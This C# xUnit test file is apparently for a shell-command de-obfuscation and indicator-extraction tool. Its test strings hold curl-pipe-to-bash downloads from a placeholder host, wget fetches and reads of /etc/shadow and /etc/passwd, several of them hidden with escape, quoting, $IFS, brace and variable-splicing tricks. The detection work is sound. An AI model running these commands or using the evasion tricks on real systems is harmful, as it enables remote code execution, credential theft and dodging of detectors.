using System.Linq;
using B64Hunt.GtfoBins;
using B64Hunt.Iocs;
using B64Hunt.Model;
using B64Hunt.Shell;
using B64Hunt.Tests.GtfoBins;
using B64Hunt.Tests.Iocs;
using Xunit;

namespace B64Hunt.Tests.ShellReading
{
    /// <summary>The de-obfuscation pass: each form the shell resolves, and a look-alike that must stay as written.</summary>
    public class DeobfuscationTests
    {
        private static readonly GtfoBinsTagger Tagger = new GtfoBinsTagger(GtfoBinsTestData.Bundled);

        private static string[] Names(string text) => ShellCommandReader.ReadUncached(text).Select(c => c.CommandName).Where(n => n.Length > 0).ToArray();

        private static CommandEvent Hunt(string text)
        {
            var e = new CommandEvent { CommandLine = text, DecodedCommand = text };
            IocTestSupport.Extractor.AddTo(e);
            return e;
        }

        [Theory]
        [InlineData(@"c\u\r\l -s http://ex\am\pl\e.t\op/x.sh | b\ash", "curl -s http://example.top/x.sh | bash")]
        [InlineData(@"c""""ur''l -s http://example.top/x.sh | b''ash", "curl -s http://example.top/x.sh | bash")]
        [InlineData(@"$'\x63\x75\x72\x6c' -s http://example.top/x.sh | $'\142\141\163\150'", "curl -s http://example.top/x.sh | bash")]
        [InlineData(@"cat${IFS}/etc/shadow", "cat /etc/shadow")]
        [InlineData(@"cat$IFS/etc/shadow", "cat /etc/shadow")]
        [InlineData(@"{cat,/etc/shadow}", "cat /etc/shadow")]
        [InlineData(@"{,ip,a}", "ip a")]
        [InlineData(@"who$@ami; c$*at /etc/shadow", "whoami; cat /etc/shadow")]
        [InlineData(@"a=cu;b=rl;$a$b -s http://example.top/x.sh|sh", "a=cu;b=rl;curl -s http://example.top/x.sh|sh")]
        [InlineData(@"a=cu;b=rl;c=""$a$b"";${c} -s http://example.top/x.sh|sh", "a=cu;b=rl;c=curl;curl -s http://example.top/x.sh|sh")]
        [InlineData(@"a=cu;b=rl;eval ""$a$b -s http://example.top/x.sh|sh""", "a=cu;b=rl;eval curl -s http://example.top/x.sh|sh")]
        public void NormalizedCommandIsWhatTheShellSees(string decoded, string normalized)
        {
            Assert.Equal(normalized, ShellNormalizer.Normalize(decoded));
        }

        [Theory]
        [InlineData(@"bash -c ""curl -s http://example.top/x.sh | sh""")]    // a real quote around code stays
        [InlineData(@"echo 'it is $a' ""x y""")]
        [InlineData(@"a=curl; echo '$a'")]                                   // single quotes: never expanded
        [InlineData(@"a=cu; echo $b")]                                       // a variable that is never assigned
        [InlineData(@"x=$(curl -s http://example.top); $x")]                 // a value the reader cannot know
        [InlineData(@"echo '$IFS' """"")]
        [InlineData(@"f() { exec ""$@""; }; echo $@ $*x")]                  // $@ as a word, or at a word's end: the arguments
        [InlineData(@"echo '{cat,/etc/shadow}' ""{a,b}"" {a} { id; }")]     // quoted or single: not a brace list
        [InlineData(@"IFS=$'\n'; for l in $(cat /etc/passwd); do echo $l; done")]
        [InlineData("curl -s http://example.top/x.sh | bash")]
        public void LookAlikesStayAsWritten(string decoded)
        {
            Assert.Equal(decoded, ShellNormalizer.Normalize(decoded));
        }

        [Fact]
        public void AnEscapedCharacterInsideAFileNameIsKeptQuoted()
        {
            Assert.Equal("cp '/tmp/my file' /tmp/x", ShellNormalizer.Normalize(@"cp /tmp/my\ file /tmp/x"));
            Assert.Equal(new[] { "/tmp/my file", "/tmp/x" }, ShellCommandReader.ReadUncached(@"cp /tmp/my\ file /tmp/x")[0].Arguments);
        }

        [Theory]
        [InlineData(@"a=cu;b=rl;$a$b -s http://example.top/x.sh|sh", new[] { "curl", "sh" })]
        [InlineData(@"a=cu;b=rl;eval ""$a$b -s http://example.top/x.sh|sh""", new[] { "eval", "curl", "sh" })]
        [InlineData(@"export P=/usr/bin/wg; ${P}et http://example.top/m", new[] { "export", "wget" })]
        [InlineData(@"cat${IFS}/etc/shadow", new[] { "cat" })]
        [InlineData(@"{cat,/etc/shadow}", new[] { "cat" })]
        [InlineData(@"a=cu; $a$b x", new[] { "cu$b" })]
        public void TheReaderResolvesTheSameSplices(string text, string[] names)
        {
            Assert.Equal(names, Names(text));
        }

        [Fact]
        public void GtfoBinsTagsTheSplicedCommand()
        {
            Assert.Equal(new[] { "curl" }, Tagger.Tag("a=cu;b=rl;$a$b http://example.top/a").Select(t => t.Name).ToArray());
            Assert.Empty(Tagger.Tag("a=cu;b=rl;echo $a$b http://example.top/a"));
        }

        [Fact]
        public void IndicatorsFoundOnlyAfterDeobfuscationSaySo()
        {
            var e = Hunt(@"c\u\r\l -s http://ex\am\pl\e.t\op/x.sh | bash");
            Assert.Equal("curl -s http://example.top/x.sh | bash", e.NormalizedCommand);
            var url = Assert.Single(e.Iocs, i => i.Type == "url");
            Assert.Equal("http://example.top/x.sh", url.Normalized);
            Assert.True(url.Deobfuscated);
            // The fragments the written text shows are not indicators.
            Assert.DoesNotContain(e.Iocs, i => i.Normalized == "http://ex" || i.Normalized == "ex");
        }

        [Fact]
        public void IndicatorsVisibleAsWrittenAreNotFlagged()
        {
            var e = Hunt(@"c""""url -s http://example.top/x.sh | bash");
            Assert.All(e.Iocs, i => Assert.False(i.Deobfuscated));
            Assert.Contains(e.Iocs, i => i.Type == "dns" && i.Normalized == "example.top");
            var plain = Hunt("curl -s http://example.top/x.sh | bash");
            Assert.Equal("curl -s http://example.top/x.sh | bash", plain.NormalizedCommand);
            Assert.All(plain.Iocs, i => Assert.False(i.Deobfuscated));
        }

        [Fact]
        public void AHostSplicedFromVariablesIsFound()
        {
            var e = Hunt("h=exam;d=ple.top;wget http://$h$d/m -O /tmp/m");
            var dns = Assert.Single(e.Iocs, i => i.Type == "dns" && i.Normalized == "example.top");
            Assert.True(dns.Deobfuscated);
        }

        [Fact]
        public void ExpansionIsBounded()
        {
            // Each variable doubles the last: without a budget this would be 2^40 characters.
            var sb = new System.Text.StringBuilder("v0=xxxxxxxxxxxxxxxx");
            for (int i = 1; i <= 40; i++) sb.Append($";v{i}=$v{i - 1}$v{i - 1}");
            sb.Append(";echo $v40");
            string normalized = ShellNormalizer.NormalizeUncached(sb.ToString());
            Assert.True(normalized.Length < 200_000, "expansion not bounded: " + normalized.Length);
            Assert.NotEmpty(ShellCommandReader.ReadUncached(sb.ToString()));
        }
    }
}
